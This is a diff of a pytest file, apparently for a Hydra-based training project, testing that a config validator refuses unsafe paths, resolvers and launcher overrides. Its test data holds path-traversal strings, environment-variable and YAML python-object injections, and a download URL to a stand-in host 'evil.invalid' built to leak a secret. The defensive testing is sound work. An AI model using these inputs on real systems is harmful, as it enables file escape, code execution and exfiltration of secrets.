@@ -332,7 +332,8 @@ def test_hydras_options_are_refused(key: str) -> None:
 
 
 FOLDERS = [
-    "~/x", "a/../../x", "../x", ".git", "a/.ssh", "${oc.env:HOME}/x", "${evil}", "${oc.decode:/tmp/x}", "./..", "$HOME/x",
+    "~/x", "a/../../x", "../x", ".git", "a/.ssh", "${oc.env:HOME}/x", "${evil}", "${oc.decode:/tmp/x}", "./..",
+    "$HOME/x",
     "${now:.}${now:.}/x", "x\n/../..", "link/x", "link/${now:%Y}", "${hydra:runtime.cwd}/../x", "${oc.env:DA_X,/tmp}/x",
 ]  # fmt: skip
 
@@ -348,7 +349,10 @@ FILES = {
     "a group of Hydra's": ({"hydra/job_logging/evil": "root: {handlers: [x]}"}, "hydra/job_logging=evil"),
     "a launcher": ({"hydra/launcher/evil": "_target_: x.Y"}, "hydra/launcher=evil"),
     "an override": (
-        {"experiment/evil": GLOBAL + "defaults: [override /hydra/launcher: evil]", "hydra/launcher/evil": "_target_: x"},
+        {
+            "experiment/evil": f"{GLOBAL}defaults: [override /hydra/launcher: evil]",
+            "hydra/launcher/evil": "_target_: x.Y",
+        },
         "experiment=evil",
     ),
     "an experiment": ({"experiment/evil": GLOBAL + HYDRA["hydra.callbacks.claim._target_"]}, "experiment=evil"),
@@ -358,10 +362,12 @@ FILES = {
     "ours, elsewhere": (
         {"x/evil": "defaults: [/data@_global_.hydra.callbacks.x: edges2shoes]\n_global_: {}"}, "+x=evil",
     ),
-    "a launcher as a callback": ({"x/evil": "defaults: [/hydra/launcher@_global_.hydra.callbacks.x: joblib]"}, "+x=evil"),
+    "a launcher as a callback": (
+        {"x/evil": "defaults: [/hydra/launcher@_global_.hydra.callbacks.x: joblib]"}, "+x=evil",
+    ),
     "an optional one": (
-        {"experiment/evil": GLOBAL + "defaults: [optional /no: ../../../x]\nhydra: {run: {dir: 'a/${hydra:runtime.choices.no}'}}"},
-        "experiment=evil",
+        {"e/evil": "defaults: [optional /no: ../../../x]\nhydra: {run: {dir: 'a/${hydra:runtime.choices.no}'}}"},
+        "+e=evil",
     ),
     "the way up": ({"../outside": "hydra: {run: {dir: /tmp/x}}"}, "experiment=../../work/outside"),
     "the way up from Hydra's": ({"../outside": "_target_: x"}, "hydra/launcher=../../../../../../../../../../../tmp/x"),
@@ -378,11 +384,12 @@ def test_every_way_to_hydra_is_closed(way: str) -> None:
 def test_what_cannot_harm_is_left_to_recipes(monkeypatch: pytest.MonkeyPatch) -> None:
     cfg = composed_with(
         "defaults: [override /hydra/sweeper: optuna]\n"
-        "hydra:\n  run: {dir: 'mine/${hydra.runtime.choices.method}/${now:%Y-%m-%d}'}\n  sweep: {subdir: '${hydra:job.num}'}\n"
+        "hydra:\n  run: {dir: 'mine/${hydra.runtime.choices.method}/${now:%Y-%m-%d}'}\n"
+        "  sweep: {subdir: '${hydra:job.num}'}\n"
         "  output_subdir: .hydra\n  sweeper: {n_trials: 3, storage: 'sqlite:///a/study.db', study_name: mine,\n"
         "    params: {method.portion: 'interval(0.1,0.5)', +method.new: 'choice(a,b)'}}\n"
         "data: {source: {count: 7}}\ncallbacks: {checkpoint: {filename: '{epoch}-mine'}}\n"
-        "trainer: {profiler: {_target_: lightning.pytorch.profilers.PyTorchProfiler, filename: mine, dirpath: profiles}}\n"
+        "trainer: {profiler: {_target_: lightning.pytorch.profilers.PyTorchProfiler, filename: a, dirpath: profiles}}\n"
     )
     assert cfg.hydra.sweeper.n_trials == 3 and cfg.data.source.count == 7
     targets_of(cfg)
@@ -402,19 +409,21 @@ def test_the_command_line_is_the_users_word(tmp_path: Path) -> None:
 # -- where recipes may write -------------------------------------------------------------------------------------------
 
 WRITER = "_target_: da_lightning.reid.camera_style.WriteCameraPair"
+PROFILERS = "lightning.pytorch.profilers."
 WRITTEN = {
     "callbacks.write.folder": "callbacks: {{write: {{" + WRITER + ", folder: {}}}}}",
     "callbacks.checkpoint.dirpath": "callbacks: {{checkpoint: {{dirpath: {}}}}}",
     "callbacks.checkpoint.filename": "callbacks: {{checkpoint: {{filename: {}}}}}",
     "trainer.default_root_dir": "trainer: {{default_root_dir: {}}}",
-    "trainer.profiler.dirpath": "trainer: {{profiler: {{_target_: lightning.pytorch.profilers.SimpleProfiler, dirpath: {}}}}}",
-    "trainer.profiler.filename": "trainer: {{profiler: {{_target_: lightning.pytorch.profilers.AdvancedProfiler, filename: {}}}}}",
+    "trainer.profiler.dirpath": "trainer: {{profiler: {{_target_: " + PROFILERS + "SimpleProfiler, dirpath: {}}}}}",
+    "trainer.profiler.filename": "trainer: {{profiler: {{_target_: " + PROFILERS + "AdvancedProfiler, filename: {}}}}}",
     "logger.save_dir": "logger: {{save_dir: {}}}",
     "logger.name": "logger: {{name: {}}}",
     "logger.tags": "logger: {{tags: [a, {}]}}",
 }  # fmt: skip
 PATHS = [
-    "/tmp/x", "../x", "a/../../x", "~/x", "s3://x/y", "'file::/x'", "'${oc.env:HOME}/x'", "'${evil}'", "link/x", "'$HOME/x'",
+    "/tmp/x", "../x", "a/../../x", "~/x", "s3://x/y", "'file::/x'", "'${oc.env:HOME}/x'", "'${evil}'", "link/x",
+    "'$HOME/x'",
     "!!python/object/apply:pathlib.PosixPath [/tmp/x]",
 ]  # fmt: skip
 
@@ -455,9 +464,13 @@ def test_a_recipe_named_as_a_package_is_no_leave_to_write_there() -> None:
 
 def test_downloads_send_no_environment(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("SECRET", "hunter2")
-    nested = "data: {root: data/x, download: true, files: {url: 'http://evil.invalid/${evil}.zip'}}\nevil: '${oc.env:SECRET}'"
+    files = "files: {url: 'http://evil.invalid/${evil}.zip'}"
+    nested = f"data: {{root: data/x, download: true, {files}}}\nevil: '${{oc.env:SECRET}}'"
     sentence = refusal("defaults: [override /data: edges2shoes]\n" + nested, "method=munit")
     assert "would send an environment variable" in sentence and "hunter2" not in sentence
+
+
+NUMBERS = ["one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]
 
 
 def test_the_environment_is_recorded_by_its_names(monkeypatch: pytest.MonkeyPatch) -> None:
